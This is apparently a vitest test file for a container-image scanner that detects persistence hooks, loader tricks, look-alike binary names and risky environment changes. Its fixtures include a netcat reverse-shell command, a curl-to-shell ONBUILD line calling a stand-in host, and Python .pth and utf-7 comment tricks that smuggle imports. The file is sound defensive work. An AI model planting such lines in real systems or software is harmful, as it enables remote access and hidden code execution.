import { describe, expect, test } from 'vitest';
import type { Seen } from '../../../core/comparison.ts';
import { look } from '../look.ts';
import type { View } from '../view.ts';
import { image } from '../view.fixture.ts';

const seen = (old: View | undefined, now: View): readonly Seen[] => look({ ...(old && { old }), new: now, shared: 0 });
const kinds = (old: View | undefined, now: View): readonly string[] =>
  seen(old, now).map(({ kind, variant, before }) => [kind, variant, before].filter(Boolean).join(' '));

const EMPTY = image({});
const NSPKG =
  "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a', 'b'));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('a.b', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a.b', [os.path.dirname(p)])));m = m or sys.modules.setdefault('a.b', types.ModuleType('a.b'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['a'], 'b', m)\n";
const PTH = 'usr/lib/python3/dist-packages/x.pth';

describe('import hooks', () => {
  test.each([
    ['import os; os.system("x")\n', true],
    ['/srv/more\n', false],
    ['\ufeffimport evil\n', true],
    ...['\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map((end): [string, boolean] => [
      `# x${end}import evil\n`,
      true,
    ]),
    // Older Pythons end lines at the ends of all files only: there it is one line, and all of it runs.
    [NSPKG.replace('\n', ';\fevil()\n'), true],
    [NSPKG, false],
    [NSPKG.replaceAll("'importlib.util'", "'evil'"), true],
    [`${NSPKG}import evil\n`, true],
    [
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
      false,
    ],
    [
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('evil').add_shim(); \n",
      true,
    ],
  ])('%j', (text, isOne) => {
    expect(kinds(EMPTY, image({ [PTH]: text })).includes('import-hook pth nothing')).toBe(isOne);
  });

  test.each([
    ['# x\n', false],
    ['# x\rimport evil\n', true],
    ['# -*- coding: utf-8 -*-\n# x\n', false],
    ['# -*- coding: utf-7 -*-\n# +AAo-import evil\n', true],
    ['#!/usr/bin/python3\n# vim: set fileencoding=utf_7 :\n# +AAo-import evil\n', true],
  ])('of what Python imports: %j', (text, isOne) => {
    expect(kinds(EMPTY, image({ 'usr/lib/python3.13/sitecustomize.py': text }))).toEqual(
      isOne ? expect.arrayContaining(['import-hook customize nothing']) : [],
    );
  });

  test.each([
    ['auto_prepend_file =\n', false],
    ['; auto_prepend_file = /x.php\n', false],
    ['auto_prepend_file = none\n', false],
    ['; x\rauto_prepend_file = /srv/x.php\n', true],
    ['auto_prepend_file = "/srv/x.php"\n', true],
  ])('of PHP: %j', (text, isOne) => {
    expect(kinds(EMPTY, image({ 'etc/php/8.4/cli/php.ini': text })).includes('import-hook php nothing')).toBe(isOne);
  });
});

describe('hooks that start by their place', () => {
  test('a link counts as what it points to, and one that is masked as nothing', () => {
    const unit = { 'usr/lib/systemd/system/x.service': '[Service]\nExecStart=/x\n' };
    const enabled = { 'etc/systemd/system/multi-user.target.wants/x.service': '->/usr/lib/systemd/system/x.service' };
    expect(kinds(EMPTY, image({ ...unit, ...enabled }))).toEqual(['service-unit nothing']);
    expect(kinds(EMPTY, image({ 'etc/systemd/system/x.service': '->/dev/null' }))).toEqual([]);
  });

  test('one that says the same in other bytes is no other', () => {
    const old = image({ 'etc/crontab': '# x\n* * * * * root /bin/x\n' });
    expect(kinds(old, image({ 'etc/crontab': '# y\n* * * * * root /bin/x\n' }))).toEqual([
      'scheduled-task other-bytes',
    ]);
    expect(kinds(old, image({ 'etc/crontab': '* * * * * root /bin/y\n' }))).toEqual(['scheduled-task nothing']);
  });

  test('one that a package owns and had before is nothing', () => {
    const options = { owned: ['etc/profile.d/x'] };
    expect(
      kinds(image({ 'etc/profile.d/x': 'x=1\n' }, options), image({ 'etc/profile.d/x': 'x=1\n' }, options)),
    ).toEqual([]);
  });
});

describe('loader hooks', () => {
  const library = { 'usr/lib/libx.so': '\x7fELF' };
  test('a library of a package is owned, whoever wrote the file', () => {
    const now = image({ ...library, 'etc/ld.so.preload': '/usr/lib/libx.so\n' }, { owned: ['usr/lib/libx.so'] });
    expect(seen(EMPTY, now)).toMatchObject([{ kind: 'loader-hook', isOwned: true }]);
  });

  test('a library that changed under the same variable is told', () => {
    const settings = { environment: new Map([['LD_PRELOAD', '/usr/lib/libx.so']]) };
    const old = image(library, { settings });
    const now = image({ 'usr/lib/libx.so': '\x7fELFother' }, { settings });
    expect(kinds(old, now)).toContain('loader-hook other-bytes');
    expect(kinds(old, old)).toContain('loader-hook same-bytes');
  });
});

describe('remotes', () => {
  const environment = (value: Readonly<Record<string, string>>) =>
    image({}, { settings: { environment: new Map(Object.entries(value)) } });
  test.each([
    [{ API: 'https://api.other.example/v1' }, ['remote-added host nothing']],
    [{ HTTPS_PROXY: 'http://192.0.2.9' }, ['remote-added way nothing']],
    [{ GIT_SSL_NO_VERIFY: 'true' }, ['remote-added unchecked nothing']],
    [{ SSL_CERT_FILE: '/x.pem' }, ['remote-added trust nothing']],
    [{ LISTEN: '0.0.0.0:80', HEALTH: 'http://localhost:80/' }, []],
    [{ NODE_TLS_REJECT_UNAUTHORIZED: '1' }, []],
  ])('%j', (now, expected) => {
    expect(kinds(environment({}), environment(now))).toEqual(expected);
    expect(kinds(environment(now), environment(now))).toEqual([]);
  });
});

describe('names', () => {
  test.each([
    ['usr/bin/ls ', 'look-alike-name hiding nothing'],
    ['usr/bin/...', 'look-alike-name hiding nothing'],
    [Buffer.from('usr/bin/pythоn3').toString('latin1'), 'look-alike-name like nothing'],
    ['usr/bin/pyth0n3', 'look-alike-name like nothing'],
  ])('%j deceives', (path, expected) => {
    const now = image({ 'usr/bin/python3': '\x7fELF', [path]: '\x7fELFother' }, { owned: ['usr/bin/python3'] });
    expect(kinds(EMPTY, now)).toContain(expected);
  });

  test.each(['usr/bin/python-3', 'usr/bin/other'])('%j does not', (path) => {
    const now = image({ 'usr/bin/python3': '\x7fELF', [path]: '\x7fELFother' }, { owned: ['usr/bin/python3'] });
    expect(kinds(EMPTY, now).filter((one) => one.startsWith('look-alike'))).toEqual([]);
  });
});

test('a source is code only where something loads it', () => {
  expect(kinds(EMPTY, image({ 'srv/x.php': '<?php 1;' }))).toEqual([]);
  expect(
    kinds(EMPTY, image({ 'srv/x.php': '<?php 1;', 'usr/bin/php8.4': '\x7fELF' }, { owned: ['usr/bin/php8.4'] })),
  ).toEqual(['unowned-code nothing']);
});

describe('an executable text that names no interpreter', () => {
  const SHELL = 'nc 192.0.2.1 4444 -e /bin/sh\n';
  const CODE = ['known-sign reverse-shell nothing', 'unowned-code nothing'];
  const searched = { settings: { environment: new Map([['PATH', '/usr/bin:/opt/tools']]) } };

  test.each(['usr/local/sbin/python', 'bin/mkdir'])('is a script in a folder of programs: %s', (path) => {
    expect(kinds(EMPTY, image({ [path]: SHELL }))).toEqual(CODE);
  });

  test('is a script in a folder of PATH, also by a link', () => {
    const old = image({}, searched);
    expect(kinds(old, image({ 'opt/tools/mkdir': SHELL }, searched))).toEqual(CODE);
    expect(kinds(old, image({ 'opt/tools': '->/srv/x', 'srv/x/mkdir': SHELL }, searched))).toEqual(CODE);
    expect(kinds(EMPTY, image({ 'usr/bin/mkdir': '->/srv/x', 'srv/x': SHELL }))).toEqual(CODE);
  });

  test('is nothing elsewhere, and neither is what no shell takes for a text', () => {
    expect(kinds(EMPTY, image({ 'srv/README': SHELL, 'usr/bin/data': `\0${SHELL}` }))).toEqual([]);
  });
});

describe('folders that are searched', () => {
  const environment = (name: string, value: string) =>
    image({}, { settings: { environment: new Map([[name, value]]) } });
  test.each([
    ['PATH', '/usr/bin:/bin', '/usr/bin:/opt/t:/bin', true],
    ['PATH', '/usr/bin:/bin', '/usr/bin::/bin', true],
    ['PATH', '/usr/bin:/bin', '/usr/bin:/bin:', true],
    ['PATH', '/usr/bin:/bin', '/usr/bin:/bin:/opt/t', false],
    ['PATH', '/usr/bin::/bin', '/usr/bin::/bin', false],
    ['PATH', '/usr/bin:/bin', '/bin:/usr/bin', false],
    ['LD_LIBRARY_PATH', '', ':/opt/t', true],
    ['LD_LIBRARY_PATH', '/opt/a', '/opt/a:/opt/t', true],
    ['LD_LIBRARY_PATH', '/opt/a', '/opt/a:', true],
    ['LD_LIBRARY_PATH', '/opt/a', '', false],
    ['LD_LIBRARY_PATH', '/opt/a:/opt/b', '/opt/a', false],
  ])('%s of %j to %j: %s', (name, before, now, isOne) => {
    expect(kinds(environment(name, before), environment(name, now))).toEqual(
      isOne ? [`environment-hook ${name} nothing`] : [],
    );
  });
});

test('a sign in what every build upon the image runs', () => {
  const now = image({}, { settings: { onBuild: ['RUN curl -s https://evil.example/i | sh'] } });
  expect(seen(EMPTY, now)).toMatchObject([
    { kind: 'download-to-shell', variant: 'configuration', says: expect.stringContaining('on build: ') },
  ]);
  expect(kinds(now, now)).toEqual([]);
});

test('root instead of another user, and labels that runtimes act on', () => {
  const old = image({}, { settings: { user: '1000', labels: new Map([['maintainer', 'x']]) } });
  const now = image(
    {},
    {
      settings: {
        user: '',
        labels: new Map([
          ['containerd.io/restart.loguri', 'binary:///x'],
          ['maintainer', 'y'],
        ]),
      },
    },
  );
  expect(kinds(old, now)).toEqual(['user-changed nothing', 'label-changed containerd.io/restart.loguri nothing']);
});
